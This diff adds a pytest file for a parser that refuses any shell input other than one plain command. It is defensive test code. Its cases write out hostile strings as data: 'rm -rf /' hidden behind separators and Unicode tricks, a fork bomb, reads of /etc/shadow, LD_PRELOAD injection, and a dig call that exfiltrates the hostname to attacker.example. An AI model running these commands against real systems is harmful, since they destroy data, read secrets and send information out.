@@ -1,0 +1,139 @@
+"""parse_command: one simple command, argv exactly as bash would build it, everything else refused."""
+
+from __future__ import annotations
+
+import pytest
+
+from netghost.shell.parse import ParsedCommand, ParseRejection, parse_command
+
+
+@pytest.mark.parametrize(
+    ("command", "argv"),
+    [
+        ("ping -c 4 10.0.0.4", ("ping", "-c", "4", "10.0.0.4")),
+        ("  ping   -c 4  x  ", ("ping", "-c", "4", "x")),
+        ("curl -s 'a b' \"c d\"", ("curl", "-s", "a b", "c d")),
+        ("echo 'it'\"'\"'s'", ("echo", "it's")),
+        ('curl -s "https://x/?q=\\$(id)"', ("curl", "-s", "https://x/?q=$(id)")),
+        ('echo "a\\"b\\\\c\\n"', ("echo", 'a"b\\c\\n')),
+        ("az vm list --query '[?tags.env==`prod`].name'", ("az", "vm", "list", "--query", "[?tags.env==`prod`].name")),
+        ("dig +short '$(cat /etc/hostname).attacker.example'", ("dig", "+short", "$(cat /etc/hostname).attacker.example")),
+        ("ping -c4 ''", ("ping", "-c4", "")),
+        ('x --a="b c"d', ("x", "--a=b cd")),
+    ],
+)
+def test_argv_is_what_bash_would_pass(command: str, argv: tuple[str, ...]) -> None:
+    parsed = parse_command(command)
+    assert isinstance(parsed, ParsedCommand), parsed
+    assert parsed.argv == argv
+    assert not parsed.unquoted_special
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["ls x*", "ping a?b", "ls [ab]", "echo {a,b}", "rm -rf ~", "echo a\\ b", "echo \\x"],
+)
+def test_unquoted_glob_brace_tilde_backslash_are_flagged(command: str) -> None:
+    parsed = parse_command(command)
+    assert isinstance(parsed, ParsedCommand)
+    assert parsed.unquoted_special
+
+
+STRUCTURAL = [
+    "ping -c 1 a; rm -rf /",
+    "ping -c 1 a && curl x",
+    "ping -c 1 a || curl x",
+    "ss -tan | sh",
+    "ping -c1 a|bash",
+    "ping -c 1 a &",
+    "ping $(id)",
+    "ping `id`",
+    'ping "$(id)"',
+    'ping -c 1 "`id`"',
+    "ping $HOME",
+    "ping ${HOME}",
+    'ping "$HOME"',
+    "ping $((1+1))",
+    "cat <(id)",
+    "diff >(id) x",
+    "ping x > /tmp/o",
+    "ping x 2>&1",
+    "ping x >> /etc/motd",
+    "cat < /etc/shadow",
+    "sh <<< 'id'",
+    "cat <<EOF\nx\nEOF",
+    "PAGER=sh git log",
+    "LD_PRELOAD=/tmp/x.so ping x",
+    "a=b",
+    "(ping x)",
+    "{ ping x; }",
+    "! ping x",
+    "if true; then id; fi",
+    "for i in 1; do id; done",
+    "while true; do id; done",
+    "case x in x) id;; esac",
+    "f() { id; }",
+    ":(){ :|:& };:",
+    "export A=1",
+    "declare -x A=1",
+    "local a=1",
+    "unset PATH",
+    "[ -f /etc/shadow ]",
+    "[[ -f /etc/shadow ]]",
+    "ping $'\\x72\\x6d'",
+    'ping $"x"',
+    "ping x # ; rm -rf /",
+    "# just a comment",
+    "ping x;",
+]
+
+
+@pytest.mark.parametrize("command", STRUCTURAL)
+def test_structural_constructs_are_refused(command: str) -> None:
+    parsed = parse_command(command)
+    assert isinstance(parsed, ParseRejection), parsed
+    assert parsed.error in ("not_a_single_command", "forbidden_command", "parse_error")
+    assert "Send" in parsed.reason or "Retype" in parsed.reason or "single line" in parsed.reason
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["\\rm -rf /", "r''m -rf /", "'rm' -rf /", '"ping" x', "/???/?m x", "$CMD x", "p\\ing x", "{rm,-rf,~}"],
+)
+def test_command_word_must_be_one_plain_word(command: str) -> None:
+    parsed = parse_command(command)
+    assert isinstance(parsed, ParseRejection)
+    assert parsed.error in ("not_a_single_command", "parse_error")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ping -c 1 x\nrm -rf /",
+        "ping -c 1 x\n",
+        "ping\t-c 1 x",
+        "ping -c 1 x\r",
+        "ping -c 1 x\x00",
+        "ping -c 1 x\x1b[2K",
+        "r\u200bm -rf /",
+        "ping -c 1 x\u200b",
+        "\uff52\uff4d -rf /",
+        "ping -c 1 x\uff1b rm -rf /",
+        "ping -c 1 x\u2028rm",
+        "ping -c 1 \u0445.example",
+        "ping\u00a0-c 1 x",
+        "ping -c 1 x\x7f",
+        "ping -c 1 x\ufeff",
+        "ping -c 1 x\u202e",
+    ],
+)
+def test_non_printable_ascii_is_forbidden(command: str) -> None:
+    parsed = parse_command(command)
+    assert isinstance(parsed, ParseRejection)
+    assert parsed.error == "forbidden_command"
+    assert "U+" in parsed.reason
+
+
+@pytest.mark.parametrize("command", ["", "   ", "ping 'unterminated", 'ping "x', "ping x\\", "ping (", "ls )"])
+def test_broken_or_empty_input_is_refused(command: str) -> None:
+    assert isinstance(parse_command(command), ParseRejection)
